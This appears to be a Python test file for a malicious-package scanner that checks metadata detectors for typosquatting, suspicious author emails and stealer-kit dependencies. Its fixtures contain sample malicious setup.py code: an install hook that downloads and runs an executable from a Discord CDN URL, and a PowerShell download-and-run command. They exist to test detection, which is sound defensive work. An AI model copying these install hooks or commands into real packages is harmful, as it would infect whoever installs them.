"""Metadata detectors: exact (indicator, line) pairs on setup.py keyword lines.

Fields come from the real setup.py reader (``triage.artifact.setup_py``), as in a scan.
"""

from __future__ import annotations

import textwrap
import time

from tests.conftest import pairs, run_engine
from triage.artifact.setup_py import setup_py_fields
from triage.indicators.metadata import notorious
from triage.indicators.metadata_names import build_popular, combosquat_target, typosquat_target
from triage.indicators.metadata_text import mail_problem, randomness

EMAIL = "metadata_author_email_suspicious"
INFO = "metadata_author_info_suspicious"
NOTORIOUS = "metadata_author_reputation_notorious"
DEPS = "metadata_dependency_suspicious"
ANOMALY = "metadata_description_anomaly"
NONE = "metadata_description_none"
MISMATCH = "metadata_description_purpose_mismatch"
TYPO = "metadata_typosquatting"
COMBO = "metadata_combosquatting"
VERSION = "metadata_version_suspicious"
PATH = "pkg-1.0/setup.py"


def scan(setup: str, extra: dict[str, str] | None = None):
    """Run the engine on a package whose metadata comes from its setup.py."""
    text = textwrap.dedent(setup)
    files = {PATH: text, **(extra or {})}
    return run_engine(files, metadata=setup_py_fields(PATH, text))


def conf(result, indicator: str) -> dict[int, float]:
    return {s.start_line or 0: s.confidence for s in result.signals if s.indicator == indicator}


DROPPER = '''\
    import os, requests
    from setuptools import setup
    from setuptools.command.install import install

    DESCRIPTION = 'omIRHLReKyJHcXHqCdeezpwEVbLRHrCTSkNQSGYePUvvKPcPKRzTnKMjKKnxgAgTSUcvbf'

    class GruppeInstall(install):
        def run(self):
            from fernet import Fernet
            r = requests.get("https://cdn.discordapp.com/attachments/1/2/run.exe")
            open("run.exe", "wb").write(r.content)
            os.startfile("run.exe")
            install.run(self)

    setup(
        name="reqeusts",
        version="999.0.1",
        author="mxsuetpAnX",
        author_email="eXdxOKXENFRgFMj@gmail.com",
        description=DESCRIPTION,
        cmdclass={"install": GruppeInstall},
        setup_requires=["fernet", "requests"],
    )
    '''


def test_dropper_setup_metadata_lines():
    res = scan(DROPPER)
    assert pairs(res, EMAIL) == {(EMAIL, 19)}
    assert pairs(res, INFO) == {(INFO, 18), (INFO, 19)}
    assert pairs(res, ANOMALY) == {(ANOMALY, 5), (ANOMALY, 20)}
    assert pairs(res, DEPS) == {(DEPS, 22)}
    assert pairs(res, TYPO) == {(TYPO, 16)}
    assert pairs(res, VERSION) == {(VERSION, 17)}
    assert pairs(res, NONE) == set()
    assert min(conf(res, EMAIL).values()) >= 0.7  # random local part, and the code misbehaves


BENIGN = '''\
    from setuptools import setup

    setup(
        name="requests-toolbelt",
        version="2024.5.1",
        author="Jane Doe",
        author_email="jane.doe@janedoe.dev",
        description="A utility belt for advanced users of python-requests",
        install_requires=["requests>=2.0.1,<3.0.0"],
        setup_requires=["setuptools_scm"],
    )
    '''


def test_benign_setup_has_no_metadata_findings():
    res = scan(BENIGN, {"requests_toolbelt/__init__.py": "X = 1\n"})
    found = {s.indicator for s in res.signals if s.indicator.startswith("metadata_")}
    assert found == set()


def test_anonymous_mail_and_fake_identity_thresholds():
    assert mail_problem("someone@proton.me") == \
        ("uses the anonymous mail provider proton.me", 0.45)
    assert mail_problem("x@yopmail.com")[1] == 0.7
    assert mail_problem("kenneth@reitz.org") is None
    assert randomness("fNUJBaLhMdPKDyCJkEp") >= 0.5
    assert randomness("EsqueleSquad") < 0.3 and randomness("Krzysztof") < 0.5


def test_notorious_author_from_kb():
    assert ("author", "lolip0p") in notorious()
    res = scan('''\
        from setuptools import setup
        setup(name="colorslib-x", version="1.0", author="Lolip0p",
              description="colour helpers")
        ''')
    assert pairs(res, NOTORIOUS) == {(NOTORIOUS, 2)}
    benign = scan('''\
        from setuptools import setup
        setup(name="x-lolly", version="1.0", author="Lolipop", description="sweets")
        ''')
    assert pairs(benign, NOTORIOUS) == set()


def test_description_none_on_setup_call_line():
    res = scan('''\
        from setuptools import setup
        setup(
            name="tinytool",
            version="0.1",
        )
        ''')
    assert pairs(res, NONE) == {(NONE, 2)}
    assert conf(res, NONE)[2] < 0.3


def test_purpose_mismatch_needs_thin_code_and_behaviour():
    src = '''\
        import subprocess
        from distutils.core import setup
        CMD = "Invoke-WebRequest -Uri https://files.example.com/a.exe -OutFile a.exe"
        subprocess.Popen("powershell -Command " + CMD + "; Start-Process a.exe")
        setup(
            name="tuilib-helper",
            packages=["modlib"],
            version="1.0",
            description="A library for creating a terminal user interface",
        )
        '''
    res = scan(src)
    assert pairs(res, MISMATCH) == {(MISMATCH, 9)}
    big_lib = {"tuilib/core.py": "\n".join(f"V{i} = {i}" for i in range(30)) + "\n"}
    assert pairs(scan(src, big_lib), MISMATCH) == set()


def test_combosquatting_and_popular_names():
    res = scan('''\
        from setuptools import setup
        setup(name="colorama-py", version="0.6", description="Colors for terminals")
        ''')
    assert pairs(res, COMBO) == {(COMBO, 2)}
    assert pairs(res, TYPO) == set()
    pop = build_popular(["requests", "requests-toolbelt", "colorama", "matplotlib"])
    assert combosquat_target("requests-toolbelt", pop) is None
    assert typosquat_target("requests", pop) is None
    assert typosquat_target("Matpliotlib", pop)[0] == "matplotlib"
    assert typosquat_target("co1orama", pop) == ("colorama", 3, "look-alike characters")


def test_typosquat_check_is_fast():
    typosquat_target("warmup")  # builds the index once
    names = [f"pkgname{i}x" for i in range(200)] + ["reqeusts", "nunpy", "djangoo"]
    start = time.perf_counter()
    for n in names:
        typosquat_target(n)
        combosquat_target(n)
    assert (time.perf_counter() - start) / len(names) < 0.01


def test_dependency_from_raw_ip_and_benign_build_requirements():
    res = scan('''\
        from setuptools import setup
        setup(
            name="netkit",
            version="1.0",
            description="network kit",
            install_requires=["helper @ http://203.0.113.8/helper-1.0.tar.gz"],
            setup_requires=["setuptools_scm", "wheel"],
        )
        ''')
    assert pairs(res, DEPS) == {(DEPS, 6)}


def test_stealer_kit_dependencies():
    res = scan('''\
        from setuptools import setup
        setup(
            name="suffer",
            version="0.9",
            description="suffer",
            install_requires=[
                "requests",
                "discord",
                "mss",
                "pycryptodome",
                "pillow",
                "dhooks",
                "psutil",
            ],
        )
        ''')
    assert pairs(res, DEPS) == {(DEPS, 6)}
    assert 0.3 <= conf(res, DEPS)[6] < 0.6


def test_webhook_library_alone_or_imaging_stack_is_not_a_stealer_kit():
    for deps in ('["discord", "requests", "aiohttp"]', '["pillow", "mss", "psutil", "numpy"]'):
        res = scan(f'''\
            from setuptools import setup
            setup(
                name="bot-kit",
                version="1.0",
                description="a discord bot framework",
                install_requires={deps},
            )
            ''')
        assert pairs(res, DEPS) == set()
